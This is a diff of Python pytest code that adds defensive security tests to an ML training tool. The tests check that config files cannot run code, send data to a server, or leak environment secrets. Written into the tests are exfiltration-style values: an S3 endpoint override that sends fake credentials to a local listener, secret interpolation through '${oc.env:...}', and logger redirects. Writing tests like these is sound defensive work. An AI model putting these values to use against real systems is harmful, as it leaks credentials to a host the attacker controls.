@@ -11,9 +11,12 @@ import os
 import pickle
 import re
 import shutil
+import socket
 import subprocess
 import sys
+import threading
 from contextlib import suppress
+from dataclasses import replace
 from pathlib import Path
 
 import lightning as L
@@ -29,12 +32,14 @@ from flatout.checkpoints.folder import MANIFEST, STATE, TENSORS, FolderCheckpoin
 from flatout.checkpoints.folder import sealed as sealed_manifest
 from flatout.checkpoints.kept import shelve
 from flatout.data.store.store import file_checksum
+from flatout.data.tables.fetched import fetch
 from flatout.distributed.processes import warm_start
 from flatout.errors import UserError
 from flatout.run.kinds import load_predictor
 from tests.faults import runs
 from tests.hostile import attempts as hostile
 from tests.hostile.paths import path_cases
+from tests.hostile.sending import ENVIRONMENT, sending_cases
 from tests.hostile.targets import FUNCTIONS, Case, all_cases, quick_cases
 from tests.verbs import verb
 
@@ -171,6 +176,110 @@ def test_the_same_holds_for_python_m_train():
         done = subprocess.run(words, env=environment, capture_output=True, text=True, timeout=120)
         assert done.returncode == 2 and "Traceback" not in done.stderr, done.stderr
         assert hostile.files_outside(place) == before
+
+
+# What files would send, and to whom.
+
+
+@pytest.fixture
+def server():
+    """The address of a server, and a list that gets what each caller sends."""
+    heard: list[bytes] = []
+    with socket.create_server(("127.0.0.1", 0)) as listening:
+
+        def answer() -> None:
+            with suppress(OSError):
+                while True:
+                    caller = listening.accept()[0]
+                    with caller:
+                        heard.append(caller.recv(4096))
+                        caller.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
+
+        threading.Thread(target=answer, daemon=True).start()
+        yield f"127.0.0.1:{listening.getsockname()[1]}", heard
+        listening.shutdown(socket.SHUT_RDWR)
+
+
+def in_part(cases):
+    """One case of six by default, the others among the soak tests."""
+    quick = cases[::6]
+    return [
+        pytest.param(case, id=case.name, marks=[] if case in quick else [SOAK]) for case in cases
+    ]
+
+
+@pytest.mark.parametrize("case", in_part(sending_cases()))
+def test_a_file_runs_no_code_sends_nothing_and_writes_nothing_outside(case, server):
+    address, heard = server
+    words = tuple(word.replace("<server>", address) for word in case.words)
+    files = {name: text.replace("<server>", address) for name, text in case.files.items()}
+    found = hostile.tried(replace(case, words=words, files=files))
+    assert found.is_refused, found.said
+    assert not found.is_executed
+    assert heard == []
+    assert ENVIRONMENT["FLATOUT_HOSTILE"] not in found.said
+
+
+def test_the_cases_of_files_that_send_are_many_and_different():
+    cases = sending_cases()
+    assert len({case.name for case in cases}) == len(cases) >= 100
+
+
+def test_the_server_hears_of_an_endpoint_that_nobody_refuses(server, monkeypatch):
+    address, heard = server
+    for name, value in ENVIRONMENT.items():
+        monkeypatch.setenv(name, value)
+    with pytest.raises(UserError):
+        fetch(
+            f"s3://bucket/key?endpoint_override={address}&scheme=http&region=us-east-1",
+            "data.source",
+        )
+    assert b"AKIAVICTIM" in heard[0]
+
+
+TYPED = {
+    "an address": ("data.source='s3://bucket/key?endpoint_override=here'",),
+    "a secret": ("+experiment=bloom_bigrams", "data.encoding.secret='${oc.env:FLATOUT_HOSTILE}'"),
+    "a secret in a mapping": (
+        "+experiment=bloom_bigrams",
+        "data.encoding={secret:'${oc.env:FLATOUT_HOSTILE}'}",
+    ),
+    "a server of MLflow": ("logger=mlflow", "logger.mlflow.tracking_uri=http://server:5000"),
+    "a team of W&B": ("logger=wandb", "logger.wandb.entity=mine"),
+}
+
+
+@pytest.mark.parametrize("name", TYPED)
+def test_what_files_may_not_say_is_taken_from_the_command_line(name):
+    found = hostile.tried(Case(name, TYPED[name], environment=ENVIRONMENT))
+    assert not found.is_refused and found.said == ""
+
+
+def test_a_typed_secret_is_read_by_a_whole_run():
+    words = (
+        "+experiment=bloom_bigrams",
+        "data.encoding.secret='${oc.env:FLATOUT_HOSTILE}'",
+        "seed=no_number",
+    )
+    found = hostile.tried(Case("typed", words, environment=ENVIRONMENT, is_whole=True))
+    assert "seed" in found.said and "hydra" not in found.said
+
+
+def test_a_file_may_refer_to_its_own_settings():
+    text = "# @package _global_\nname: mine\ndata: {source: '${name}.csv'}\n"
+    found = hostile.tried(Case("own", ("+experiment=mine",), {"experiment/mine.yaml": text}))
+    assert not found.is_refused and found.said == ""
+
+
+def test_transformers_is_told_never_to_ask_whether_to_run_code():
+    from transformers import dynamic_module_utils
+
+    from flatout.data.tables.hub import never_ask_to_run_code
+
+    never_ask_to_run_code()
+    assert dynamic_module_utils.TIME_OUT_REMOTE_CODE == 0
+    with pytest.raises(ValueError, match="trust_remote_code"):
+        dynamic_module_utils.resolve_trust_remote_code(None, "somebody/evil", False, True)
 
 
 # Trust that was typed.
